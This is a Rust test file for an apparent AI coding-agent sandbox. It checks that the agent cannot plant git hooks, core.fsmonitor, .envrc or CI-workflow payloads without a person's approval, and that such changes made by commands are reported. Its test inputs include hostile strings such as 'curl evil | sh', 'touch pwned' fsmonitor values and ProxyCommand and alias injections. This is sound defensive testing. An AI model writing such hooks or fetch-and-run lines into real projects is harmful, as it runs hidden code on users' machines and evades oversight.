//! File tools and nested project state: `.git`, `.wield`, protected globs, paths run automatically later.
// Helpers outside #[test] fns unwrap too (clippy.toml allows it in tests only).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::os::unix::fs::symlink;
use std::process::Command;

use serde_json::{Value, json};

use super::support::{Ws, read};
use crate::peer_cmd::git;

/// The call fails, refused by the project-state rule.
fn refused_as_state(ws: &Ws, tool: &str, args: &Value) {
    let (code, v) = ws.call(&[], tool, args);
    assert_eq!(code, 1, "{tool} {args} must be refused: {v}");
    let err = v["error"].as_str().unwrap_or_default();
    assert!(
        err.contains("project state") && err.contains("`.git` or `.wield`"),
        "{tool} {args}: the refusal must name the rule: {err}"
    );
}

/// The attack of the issue: `edit`, auto-approved by `$standard`, plants
/// `core.fsmonitor`, which the person's next `git status` runs unconfined.
#[test]
fn edit_cannot_plant_fsmonitor_in_git_config() {
    let ws = Ws::new();
    git(&ws.ws, &["init", "-q"]);
    let config = ws.ws.join(".git/config");
    let before = read(&config);
    assert!(before.contains("[core]"), "{before}");
    refused_as_state(
        &ws,
        "edit",
        &json!({"path": ".git/config", "old_text": "[core]", "new_text": "[core]\n\tfsmonitor = \"touch pwned\""}),
    );
    assert_eq!(read(&config), before);
    // Written any other way: upper case, an absolute path, `./`, through `..`.
    for path in [".GIT/config", "./.git/config", "src/../.git/config"] {
        refused_as_state(
            &ws,
            "write",
            &json!({"path": path, "content": "[core]\n\tfsmonitor = x\n"}),
        );
    }
    let abs = config.display().to_string();
    refused_as_state(&ws, "write", &json!({"path": abs, "content": "x"}));
    assert_eq!(read(&config), before);
}

/// No `.git` or `.wield` can be made from nothing, at any depth, in any
/// case, as a directory or (for `.git`) as a file that redirects git.
#[test]
fn write_and_mkdir_cannot_create_project_state_at_any_depth() {
    let ws = Ws::new();
    let writes = [
        ".git/config",
        ".git/hooks/pre-commit",
        ".git",
        "sub/.git/config",
        "sub/.git",
        "a/b/c/.git/HEAD",
        "pkg/.wield/config.toml",
        "pkg/.Wield/config.toml",
        "deep/er/.wield/approvals.toml",
        ".GiT/config",
    ];
    for path in writes {
        refused_as_state(
            &ws,
            "write",
            &json!({"path": path, "content": "[hooks.x]\ncommand = \"id\"\n"}),
        );
    }
    for path in [".git", ".git/hooks", "sub/.git", "x/y/.wield", "x/.GIT/objects"] {
        refused_as_state(&ws, "mkdir", &json!({"path": path}));
    }
    // Nothing was left behind, not even the parents of a refused path.
    let mut names: Vec<String> = std::fs::read_dir(&ws.ws)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["src"], "the workspace changed");
}

/// A link whose target is inside `.git` is refused (the resolved path is
/// checked), and so is a link named `.git` (the path as given is checked).
#[test]
fn links_into_or_named_git_are_refused() {
    let ws = Ws::new();
    git(&ws.ws, &["init", "-q"]);
    symlink(".git", ws.ws.join("docs")).unwrap();
    symlink(".git/config", ws.ws.join("cfg")).unwrap();
    std::fs::create_dir_all(ws.ws.join("plain")).unwrap();
    std::fs::create_dir_all(ws.ws.join("sub")).unwrap();
    symlink("../plain", ws.ws.join("sub/.git")).unwrap();
    let before = read(&ws.ws.join(".git/config"));
    refused_as_state(&ws, "write", &json!({"path": "docs/config", "content": "x"}));
    refused_as_state(&ws, "write", &json!({"path": "docs/hooks/pre-commit", "content": "id"}));
    refused_as_state(&ws, "mkdir", &json!({"path": "docs/hooks/new"}));
    refused_as_state(
        &ws,
        "edit",
        &json!({"path": "cfg", "old_text": "[core]", "new_text": "[alias]"}),
    );
    refused_as_state(&ws, "write", &json!({"path": "sub/.git/config", "content": "x"}));
    assert_eq!(read(&ws.ws.join(".git/config")), before);
    assert!(!ws.ws.join("plain/config").exists());
    assert!(!ws.ws.join(".git/hooks/pre-commit").exists());
}

/// `patch` goes through the same rule for Add, Update, Delete and both ends
/// of `Move to`, and applies nothing when one operation is refused.
#[test]
fn patch_cannot_add_move_or_delete_project_state() {
    let ws = Ws::new();
    git(&ws.ws, &["init", "-q"]);
    std::fs::write(ws.ws.join("a.txt"), "a\n").unwrap();
    std::fs::write(ws.ws.join("keep.txt"), "k\n").unwrap();
    let head = read(&ws.ws.join(".git/HEAD"));
    let patches = [
        "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n+id\n*** End Patch",
        "*** Begin Patch\n*** Add File: pkg/.wield/config.toml\n+[hooks.x]\n*** End Patch",
        "*** Begin Patch\n*** Update File: a.txt\n*** Move to: sub/.git/config\n@@\n-a\n+[core]\n*** End Patch",
        "*** Begin Patch\n*** Update File: .git/HEAD\n*** Move to: head.txt\n@@\n-ref: refs/heads/master\n+x\n*** End Patch",
        "*** Begin Patch\n*** Delete File: .git/HEAD\n*** End Patch",
        "*** Begin Patch\n*** Update File: keep.txt\n@@\n-k\n+K\n*** Add File: .git/info/attributes\n+* filter=x\n*** End Patch",
    ];
    for p in patches {
        refused_as_state(&ws, "patch", &json!({"patch": p}));
    }
    assert_eq!(read(&ws.ws.join(".git/HEAD")), head);
    assert_eq!(read(&ws.ws.join("a.txt")), "a\n");
    assert_eq!(read(&ws.ws.join("keep.txt")), "k\n");
    assert!(!ws.ws.join("sub").exists() && !ws.ws.join("pkg").exists());
    assert!(!ws.ws.join(".git/hooks/pre-commit").exists());
}

/// Ordinary names that only look alike stay writable.
#[test]
fn lookalike_names_stay_writable() {
    let ws = Ws::new();
    for path in [
        ".gitignore",
        ".github/workflows/x.txt",
        "git/config",
        ".wieldrc",
        "src/.git-keep",
    ] {
        // `.github/workflows` asks for approval (it runs later): say yes.
        let (code, v) = ws.call(&["-y"], "write", &json!({"path": path, "content": "x"}));
        assert_eq!(code, 0, "{path}: {v}");
    }
}

/// A workspace whose `.wield/config.toml` protects globs, with files that
/// match them.
fn protected_glob_workspace() -> Ws {
    let ws = Ws::new();
    for f in [
        "secrets/a.env",
        "app/secrets/b.env",
        "config/prod.toml",
        "config/dev.toml",
    ] {
        let p = ws.ws.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, "original\n").unwrap();
    }
    std::fs::create_dir_all(ws.ws.join(".wield")).unwrap();
    std::fs::write(
        ws.ws.join(".wield/config.toml"),
        "[sandbox]\nprotected = [\"**/secrets/*\", \"config/prod.toml\"]\n",
    )
    .unwrap();
    ws
}

/// `sandbox.protected` globs bind the file tools: what matches (and what
/// is below it) is refused, with the glob named.
#[test]
fn protected_globs_refuse_file_tools() {
    let ws = protected_glob_workspace();
    for (tool, args) in [
        ("write", json!({"path": "secrets/a.env", "content": "pwned"})),
        ("write", json!({"path": "app/secrets/b.env", "content": "pwned"})),
        ("write", json!({"path": "deep/secrets/new.env", "content": "pwned"})),
        (
            "edit",
            json!({"path": "config/prod.toml", "old_text": "original", "new_text": "pwned"}),
        ),
        ("mkdir", json!({"path": "x/secrets/d"})),
    ] {
        let (code, v) = ws.call(&[], tool, &args);
        assert_eq!(code, 1, "{tool} {args}: {v}");
        let err = v["error"].as_str().unwrap_or_default();
        assert!(err.contains("protected"), "{err}");
    }
    let (code, v) = ws.call(&[], "write", &json!({"path": "config/dev.toml", "content": "fine"}));
    assert_eq!(code, 0, "{v}");
    for f in ["secrets/a.env", "app/secrets/b.env", "config/prod.toml"] {
        assert_eq!(read(&ws.ws.join(f)), "original\n", "{f}");
    }
    assert!(!ws.ws.join("deep").exists() && !ws.ws.join("x").exists());
}

/// `wield call bash` as the unprivileged user `nobody`, who owns the
/// workspace.
fn bash_as_nobody(ws: &Ws, backend: &str, command: &str) -> (i32, Value) {
    let base = ws.ws.parent().unwrap();
    for (what, args) in [("chown", vec!["-R", "65534:65534"]), ("chmod", vec!["0755"])] {
        let st = Command::new(what).args(&args).arg(base).status().unwrap();
        assert!(st.success(), "{what} {args:?} failed");
    }
    let mut cmd = ws.wield_env().command_as_nobody();
    cmd.stdin(std::process::Stdio::null()).args([
        "--set",
        "sandbox.enabled=true",
        "--set",
        &format!("sandbox.backend=\"{backend}\""),
        "call",
        "bash",
        &json!({ "command": command }).to_string(),
        "--json",
    ]);
    super::support::call_json(cmd)
}

/// The same globs bind sandboxed commands, under both backends, as root and
/// as an unprivileged user: the paths matching them when the call starts
/// are read-only.
#[test]
fn protected_globs_bind_commands_under_both_backends() {
    for (backend, nobody) in [
        ("bwrap", false),
        ("landlock", false),
        ("bwrap", true),
        ("landlock", true),
    ] {
        let ws = protected_glob_workspace();
        super::support::require_backends(&ws);
        let command = "for f in secrets/a.env app/secrets/b.env config/prod.toml; do echo pwned > $f; done; \
             echo ok > config/dev.toml; true";
        let (_, v) = if nobody {
            bash_as_nobody(&ws, backend, command)
        } else {
            ws.bash(backend, command)
        };
        let backend = if nobody {
            format!("{backend} as nobody")
        } else {
            backend.to_owned()
        };
        for f in ["secrets/a.env", "app/secrets/b.env", "config/prod.toml"] {
            assert_eq!(read(&ws.ws.join(f)), "original\n", "{backend}: {f} was changed: {v}");
        }
        assert_eq!(read(&ws.ws.join("config/dev.toml")), "ok\n", "{backend}: {v}");
    }
}

/// The call needs a person: refused headless, with nothing written.
fn asks(ws: &Ws, pre: &[&str], tool: &str, args: &Value) {
    let (code, v) = ws.call(pre, tool, args);
    assert_eq!(code, 1, "{tool} {args} must ask: {v}");
    let err = v["error"].as_str().unwrap_or_default();
    assert!(err.contains("approval required"), "{tool} {args}: {err}");
}

/// Files other programs run later (direnv, editors, CI, commit hooks) were
/// written without asking under the default `$standard`. They always ask now,
/// even when an approve rule matches; `--yes` (a person) allows them.
#[test]
fn paths_run_later_always_ask() {
    let ws = Ws::new();
    std::fs::write(ws.ws.join("notes.yml"), "on: push\n").unwrap();
    std::fs::write(ws.ws.join(".envrc"), "export A=1\n").unwrap();
    std::fs::create_dir_all(ws.ws.join(".github/workflows")).unwrap();
    symlink(".github/workflows", ws.ws.join("ci")).unwrap();
    let writes = [
        ".envrc",
        "sub/dir/.envrc",
        ".vscode/tasks.json",
        ".VSCode/settings.json",
        ".idea/workspace.xml",
        ".github/workflows/ci.yml",
        "ci/release.yml",
        ".husky/pre-commit",
        ".pre-commit-config.yaml",
        ".gitattributes",
        "src/../.gitmodules",
    ];
    // The default rules, and an approve rule naming the tool outright.
    for pre in [
        &[][..],
        &["--set", "approval.auto_approve=[\"$standard\", \"write\", \"edit:*\"]"][..],
    ] {
        for path in writes {
            asks(&ws, pre, "write", &json!({"path": path, "content": "curl evil | sh\n"}));
        }
        asks(
            &ws,
            pre,
            "edit",
            &json!({"path": ".envrc", "old_text": "A=1", "new_text": "A=$(id)"}),
        );
        asks(&ws, pre, "mkdir", &json!({"path": ".husky"}));
        let add = "*** Begin Patch\n*** Add File: .idea/run.xml\n+x\n*** End Patch";
        asks(&ws, pre, "patch", &json!({"patch": add}));
        let mv = "*** Begin Patch\n*** Update File: notes.yml\n*** Move to: .github/workflows/x.yml\n@@\n-on: push\n+on: pull_request\n*** End Patch";
        asks(&ws, pre, "patch", &json!({"patch": mv}));
    }
    assert_eq!(read(&ws.ws.join(".envrc")), "export A=1\n");
    for p in [
        "sub",
        ".vscode",
        ".idea",
        ".husky",
        ".pre-commit-config.yaml",
        ".github/workflows/ci.yml",
    ] {
        assert!(!ws.ws.join(p).exists(), "{p} was written");
    }
    // Ordinary paths are still approved by `$standard`.
    let (code, v) = ws.call(&[], "write", &json!({"path": "src/ok.txt", "content": "x"}));
    assert_eq!(code, 0, "{v}");
    // A person may allow one.
    let (code, v) = ws.call(
        &["-y"],
        "write",
        &json!({"path": ".vscode/tasks.json", "content": "{}"}),
    );
    assert_eq!(code, 0, "{v}");
}

/// A deny rule still wins over the ask, even for a person with `--yes`.
#[test]
fn deny_wins_over_paths_that_ask() {
    let ws = Ws::new();
    let (code, v) = ws.call(
        &["-y", "--set", "approval.deny=[\"write:.envrc\"]"],
        "write",
        &json!({"path": ".envrc", "content": "x"}),
    );
    assert_eq!(code, 1, "{v}");
    assert!(
        v["error"].as_str().unwrap_or_default().contains("denied by policy"),
        "{v}"
    );
    assert!(!ws.ws.join(".envrc").exists());
}

/// `approval.ask_paths` adds globs of its own.
#[test]
fn ask_paths_are_configurable() {
    let ws = Ws::new();
    let pre = ["--set", "approval.ask_paths=[\"deploy/**\", \"Makefile\"]"];
    asks(&ws, &pre, "write", &json!({"path": "deploy/prod.sh", "content": "x"}));
    asks(&ws, &pre, "write", &json!({"path": "Makefile", "content": "x"}));
    asks(&ws, &pre, "write", &json!({"path": ".envrc", "content": "x"}));
    let (code, v) = ws.call(&pre, "write", &json!({"path": "src/deploy.txt", "content": "x"}));
    assert_eq!(code, 0, "{v}");
}

/// Commands may create and change nested repositories, but what git would
/// run from them later (hooks, `core.fsmonitor`, `core.hooksPath`,
/// `core.sshCommand`, `core.pager`, `alias.*`) is reported in the call's
/// result, under every backend.
#[test]
fn commands_setting_git_hooks_or_programs_are_reported() {
    let script = "mkdir -p src/pkg && cd src/pkg && git init -q && \
        git config core.fsmonitor 'touch /tmp/pwned' && git config core.hooksPath hooks2 && \
        git config core.sshCommand 'ssh -o ProxyCommand=id' && git config core.pager 'sh -c id' && \
        git config alias.st '!id' && printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit && \
        chmod +x .git/hooks/pre-commit && mkdir hooks2 && printf '#!/bin/sh\\nid\\n' > hooks2/pre-push && \
        chmod +x hooks2/pre-push && echo done";
    for (backend, ws) in super::each_backend() {
        // Git reads HOME's config: give it an empty one.
        let (code, v) = ws.bash(backend, &format!("export HOME=$PWD; {script}"));
        assert_eq!(code, 0, "{backend}: {v}");
        let out = super::support::output(&v);
        for key in [
            "src/pkg/.git: core.fsmonitor = \"touch /tmp/pwned\"",
            "src/pkg/.git: core.hookspath = \"hooks2\"",
            "src/pkg/.git: core.sshcommand",
            "src/pkg/.git: core.pager",
            "src/pkg/.git: alias.st = \"!id\"",
            "src/pkg/.git: hook pre-commit: a new executable hook",
            "src/pkg/.git: hook hooks2/pre-push: a new executable hook",
        ] {
            assert!(
                out.contains(&format!("[git] {key}")),
                "{backend}: {key} not reported: {out}"
            );
        }
        let changes = v["metadata"]["git_changes"].as_array().cloned().unwrap_or_default();
        assert_eq!(changes.len(), 7, "{backend}: {v}");
        // A command that changes nothing of the kind reports nothing.
        let (_, v) = ws.bash(
            backend,
            "cd src/pkg && git status --short >/dev/null; echo x > file.txt",
        );
        assert!(v["metadata"].get("git_changes").is_none(), "{backend}: {v}");
        assert!(!super::support::output(&v).contains("[git]"), "{backend}: {v}");
    }
    // `bash.git_watch = false` turns the report off.
    let ws = Ws::new();
    let (code, v) = ws.call(
        &["--set", "sandbox.enabled=false", "-y", "--set", "bash.git_watch=false"],
        "bash",
        &json!({ "command": format!("export HOME=$PWD; {script}") }),
    );
    assert_eq!(code, 0, "{v}");
    assert!(v["metadata"].get("git_changes").is_none(), "{v}");
}

/// A git directory need not be named `.git`: a `.git` file pointing
/// elsewhere (`gitdir: ../store`) or a bare repository is one too, and git
/// runs its hooks and `core.fsmonitor` just the same.
#[test]
fn git_directories_of_any_name_are_refused() {
    let ws = Ws::new();
    git(&ws.ws, &["init", "-q", "--separate-git-dir=store", "sub"]);
    git(&ws.ws, &["init", "-q", "--bare", "lib.git"]);
    assert!(ws.ws.join("sub/.git").is_file());
    let before = read(&ws.ws.join("store/config"));
    refused_as_state(
        &ws,
        "edit",
        &json!({"path": "store/config", "old_text": "[core]", "new_text": "[core]\n\tfsmonitor = \"id\""}),
    );
    refused_as_state(
        &ws,
        "write",
        &json!({"path": "store/hooks/post-checkout", "content": "id"}),
    );
    refused_as_state(
        &ws,
        "write",
        &json!({"path": "lib.git/config", "content": "[core]\n\tfsmonitor = id\n"}),
    );
    refused_as_state(&ws, "mkdir", &json!({"path": "lib.git/hooks/x"}));
    assert_eq!(read(&ws.ws.join("store/config")), before);
    // The working tree of such a repository is ordinary.
    let (code, v) = ws.call(&[], "write", &json!({"path": "sub/main.rs", "content": "fn main() {}"}));
    assert_eq!(code, 0, "{v}");
}

/// A background process's changes are reported at its next status or
/// kill, once.
#[test]
fn background_processes_setting_git_programs_are_reported() {
    let ws = Ws::new();
    let mut mcp = super::support::Mcp::start(&ws, &["-y"]);
    let (err, text) = mcp.call(
        "process_start",
        json!({
            "command": "cd src && git init -q r && git -C r config core.fsmonitor 'id' && echo set && sleep 60",
            "workdir": null,
            "label": null
        }),
    );
    assert!(!err, "{text}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let status = loop {
        let (err, text) = mcp.call("process_status", json!({"id": "p1"}));
        assert!(!err, "{text}");
        if text.contains("set") {
            break text;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the process never got there: {text}"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    let status = if status.contains("[git]") {
        status
    } else {
        // The status that saw "set" may have looked at the repository first.
        mcp.call("process_status", json!({"id": "p1"})).1
    };
    assert!(status.contains("[git] src/r/.git: core.fsmonitor = \"id\""), "{status}");
    let (err, text) = mcp.call("process_kill", json!({"id": "p1"}));
    assert!(!err, "{text}");
    assert!(!text.contains("[git]"), "reported twice: {text}");
    assert_eq!(mcp.finish(), 0);
}
